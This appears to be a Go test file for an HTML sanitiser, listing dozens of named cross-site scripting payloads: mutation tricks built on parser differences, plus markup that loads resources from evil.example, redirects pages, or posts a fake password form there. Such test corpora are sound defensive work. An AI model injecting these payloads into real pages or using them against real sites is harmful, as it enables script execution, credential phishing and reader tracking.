package main

import "strings"

// mutations are harmless to one reader and not to the next: they try to be
// read otherwise by the browser than by the sanitiser.
var mutations = []attack{
	{name: "mutation-noscript", tries: "noscript, which is text with scripts on", payload: `<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">`},
	{name: "mutation-textarea", tries: "an attribute that ends a textarea", payload: `<textarea><a title="</textarea><img src=x onerror=window.__pwned=1>">`},
	{name: "mutation-title", tries: "an attribute that ends a title", payload: `<title><a title="</title><img src=x onerror=window.__pwned=1>">`},
	{name: "mutation-style", tries: "an attribute that ends a style sheet", payload: `<style><a title="</style><img src=x onerror=window.__pwned=1>">`},
	{name: "mutation-xmp", tries: "an attribute that ends an example", payload: `<xmp><a title="</xmp><img src=x onerror=window.__pwned=1>">`},
	{name: "mutation-iframe", tries: "an attribute that ends a frame", payload: `<iframe><a title="</iframe><img src=x onerror=window.__pwned=1>">`},
	{name: "mutation-noembed", tries: "attributes that end old elements", payload: `<noembed><a title="</noembed><img src=x onerror=window.__pwned=1>"><noframes><a title="</noframes><img src=x onerror=window.__pwned=1>">`},
	{name: "mutation-template", tries: "a template, whose content is elsewhere", payload: `<template><script>window.__pwned=1</script></template><div><template shadowrootmode=open><img src=x onerror=window.__pwned=1></template></div>`},
	{name: "mutation-plaintext", tries: "plaintext, which never ends", payload: `<plaintext><script>window.__pwned=1</script>`},
	{name: "mutation-mglyph", tries: "mglyph and a style sheet in a table in a formula", payload: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__pwned=1&gt;">`},
	{name: "mutation-forms", tries: "forms that nest after a second reading", payload: `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.__pwned=1 src>">`},
	{name: "mutation-svg-style", tries: "a style sheet that is text in SVG", payload: `<svg><style><img src="</style><img src=x onerror=window.__pwned=1//">`},
	{name: "mutation-svg-title", tries: "a style sheet in a title in SVG", payload: `<svg><title><style></title><img src=x onerror=window.__pwned=1></style></svg>`},
	{name: "mutation-math-style", tries: "a style sheet in a formula", payload: `<math><style><img src=x onerror=window.__pwned=1></style></math><math><mi><style></mi><img src=x onerror=window.__pwned=1></style></math>`},
	{name: "mutation-comment", tries: "comments that end early", payload: `<!--><img src=x onerror=window.__pwned=1>--><!---><img src=x onerror=window.__pwned=1>--><!-- --!><img src=x onerror=window.__pwned=1>-->`},
	{name: "mutation-comment-script", tries: "a comment in an attribute", payload: `<p title="<!--"><script>window.__pwned=1</script><p title="-->">`},
	{name: "mutation-cdata", tries: "CDATA in HTML and in SVG", payload: `<![CDATA[<img src=x onerror=window.__pwned=1>]]><svg><![CDATA[><img src=x onerror=window.__pwned=1>]]></svg>`},
	{name: "mutation-instruction", tries: "a processing instruction", payload: `<?php echo "> <img src=x onerror=window.__pwned=1> ?><?xml <img src=x onerror=window.__pwned=1>`},
	{name: "mutation-table", tries: "what a table throws out of itself", payload: `<table><tr><td><form><table><tr><td></form><img src=x onerror=window.__pwned=1><table><caption><svg onload=window.__pwned=1>`},
	{name: "mutation-select", tries: "a select, which drops tags", payload: `<select><template><style><!--</template><a rel="--></style></select><img src=x onerror=window.__pwned=1>"></a>`},
	{name: "mutation-nested-links", tries: "links in links", payload: `<a href="#a"><svg><a href="javascript:window.__pwned=1"><text y=9>click</text></a></svg><a href="javascript:window.__pwned=1">click</a></a>`},
	{name: "mutation-backtick", tries: "backticks and entities in attributes", payload: "<a title='` onmouseover=window.__pwned=1 `' href=#x>x</a><a title=\"&quot; onmouseover=window.__pwned=1 x=&quot;\" href=#x>x</a>"},
	{name: "mutation-depth", tries: "to nest more deeply than a parser goes", payload: strings.Repeat("<div>", 600) + `<img src=x onerror=window.__pwned=1>`},
	{name: "mutation-depth-foreign", tries: "to nest drawings and formulas", payload: strings.Repeat("<svg><title><math><mtext>", 60) + `<img src=x onerror=window.__pwned=1>`},
	{name: "mutation-formatting", tries: "bold that begins again in every paragraph", payload: strings.Repeat("<b id=a><i class=b><u><a href=#c>", 40) + strings.Repeat("<p>x", 200) + `<img src=x onerror=window.__pwned=1>`},
	{name: "mutation-selectedcontent", tries: "a select that copies what it holds", payload: `<select><button><selectedcontent></selectedcontent></button><option><img src=x onerror=window.__pwned=1></option></select>`},
	{name: "mutation-processing-charset", tries: "another character set", payload: `<meta charset="iso-2022-jp">` + "\x1b$B<img src=x onerror=window.__pwned=1>\x1b(B"},
}

// documents try to load, to lead elsewhere or to send something.
var documents = []attack{
	{name: "iframe", tries: "a frame from the network", payload: `<iframe src="https://evil.example/iframe"></iframe>`},
	{name: "iframe-srcdoc", tries: "a frame with a page in it", payload: `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`},
	{name: "iframe-javascript", tries: "a frame whose address is a script", payload: `<iframe src="javascript:parent.__pwned=1"></iframe>`},
	{name: "frameset", tries: "frames instead of the page", payload: `<frameset onload=window.__pwned=1><frame src="https://evil.example/frameset"></frameset>`},
	{name: "object", tries: "an object", payload: `<object data="https://evil.example/object"></object><object data="javascript:window.__pwned=1"></object><applet code=x archive="https://evil.example/object"></applet>`},
	{name: "embed", tries: "an embedded thing", payload: `<embed src="https://evil.example/embed"><embed src="javascript:window.__pwned=1">`},
	{name: "portal", tries: "portals and fenced frames", payload: `<portal src="https://evil.example/portal"></portal><fencedframe src="https://evil.example/portal"></fencedframe>`},
	{name: "base", tries: "another base for all addresses", payload: `<base href="https://evil.example/base/"><img src="base.png">`},
	{name: "meta-refresh", tries: "to lead elsewhere", payload: `<meta http-equiv="refresh" content="0;url=https://evil.example/meta-refresh">`},
	{name: "meta-refresh-javascript", tries: "to lead to a script", payload: `<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1"><meta http-equiv="refresh" content="0;url=data:text/html,x">`},
	{name: "meta-policy", tries: "a policy of its own", payload: `<meta http-equiv="Content-Security-Policy" content="script-src *"><meta http-equiv="set-cookie" content="x=y">`},
	{name: "link-stylesheet", tries: "a style sheet from the network", payload: `<link rel=stylesheet href="https://evil.example/link-stylesheet.css">`},
	{name: "link-preload", tries: "to load in advance, and to look up a name", payload: `<link rel=preload as=image href="https://evil.example/link-preload.png"><link rel=prefetch href="https://evil.example/link-preload"><link rel=dns-prefetch href="https://evil.example"><link rel=manifest href="https://evil.example/link-preload"><link rel=icon href="https://evil.example/link-preload.ico">`},
	{name: "link-import", tries: "an import of HTML", payload: `<link rel=import href="data:text/html,<script>window.__pwned=1</script>">`},
	{name: "img-network", tries: "a picture that tells who reads", payload: `<img src="https://evil.example/img-network.png"><img src="//evil.example/img-network.png"><img srcset="https://evil.example/img-network.png 1x">`},
	{name: "img-markdown", tries: "the same in Markdown", payload: `![pixel](https://evil.example/img-markdown.png) ![pixel][p]` + "\n\n[p]: https://evil.example/img-markdown.png"},
	{name: "img-lazy", tries: "a picture of the other attributes", payload: `<img lowsrc="https://evil.example/a.png" dynsrc="https://evil.example/a.png" longdesc="https://evil.example/a" attributionsrc="https://evil.example/a">`},
	{name: "picture", tries: "a picture of several sources", payload: `<picture><source srcset="https://evil.example/picture.png"><img src="https://evil.example/picture.png"></picture>`},
	{name: "video", tries: "a film and its poster", payload: `<video src="https://evil.example/video.mp4" poster="https://evil.example/video.png" autoplay></video><audio src="https://evil.example/a.mp3" autoplay></audio><video><track src="https://evil.example/a.vtt" default></video>`},
	{name: "table-background", tries: "a picture behind a table", payload: `<table background="https://evil.example/table-background.png"><tr><td background="https://evil.example/table-background.png">x</table>`},
	{name: "form", tries: "a form that sends what is typed", payload: `<form action="https://evil.example/form"><input name=password type=password><button>Log in</button></form>`},
	{name: "form-action", tries: "a button with an address of its own", payload: `<form id=f></form><button form=f formaction="javascript:window.__pwned=1">click</button><input type=image src="https://evil.example/form-action.png" form=f formaction="https://evil.example/form-action">`},
	{name: "isindex", tries: "an old search field", payload: `<isindex action="javascript:window.__pwned=1" type=image src=x onerror=window.__pwned=1>`},
	{name: "keygen", tries: "old fields", payload: `<keygen autofocus onfocus=window.__pwned=1><menuitem onclick=window.__pwned=1 label=x>click`},
	{name: "custom-element", tries: "an element that nobody knows", payload: `<x-y onclick=window.__pwned=1 autofocus tabindex=1 onfocus=window.__pwned=1>click</x-y>`},
}
